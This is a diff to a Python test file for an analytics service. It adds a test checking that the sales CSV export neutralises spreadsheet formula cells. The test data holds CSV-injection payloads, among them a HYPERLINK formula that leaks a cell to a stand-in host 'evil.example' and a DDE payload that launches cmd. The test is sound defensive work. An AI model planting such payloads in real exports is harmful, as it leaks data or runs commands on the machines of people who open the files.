@@ -8,6 +8,8 @@ recommendations, and that a duplicate delivery changes nothing.
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 from datetime import UTC, datetime, timedelta
 from typing import TYPE_CHECKING, Any
 
@@ -555,3 +557,46 @@ async def test_an_action_without_a_region_shows_the_accounts_region(
 
 async def _count(found: Any, n: int) -> bool:
     return len(await found()) == n
+
+
+# Cells a spreadsheet would run as a formula (OWASP's CSV injection list).
+FORMULA_IDS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+async def test_sales_csv_neutralises_cells_a_spreadsheet_would_run(
+    analytics: AnalyticsHarness,
+) -> None:
+    h = analytics
+    for n, pid in enumerate(FORMULA_IDS):
+        product = ProductCreated(product_id=pid, name=pid, category="x", price_cents=100)
+        placed, items, _ = order(f"f{n}", U1, (pid, 1, 100))
+        await h.publish(env(product, pid, ADMIN), placed, confirmed(f"f{n}", "u1", items))
+
+    async def all_confirmed() -> bool:
+        return await h.deps.store.order_facts.count_documents({"status": "CONFIRMED"}) == len(
+            FORMULA_IDS
+        )
+
+    await eventually(all_confirmed, what="every order confirmed")
+    response = await h.client.get(
+        "/api/v1/reports/sales",
+        params={"groupBy": "product", "format": "csv"},
+        headers=h.headers("m", "Manager"),
+    )
+    assert response.status_code == 200
+    header, *rows = csv.reader(io.StringIO(response.text, newline=""))
+    assert header == ["key", "orders", "revenueCents"]
+    keys = [row[0] for row in rows]
+    # Each key is still readable (a leading quote, the text kept), none starts a formula.
+    assert sorted(keys) == sorted(f"'{pid}" for pid in FORMULA_IDS)
+    assert all(row[1:] == ["1", "100"] for row in rows)
+    # JSON is no spreadsheet: it keeps the keys as they are.
+    report = await h.get("/api/v1/reports/sales", groupBy="product")
+    assert sorted(g["key"] for g in report["groups"]) == sorted(FORMULA_IDS)
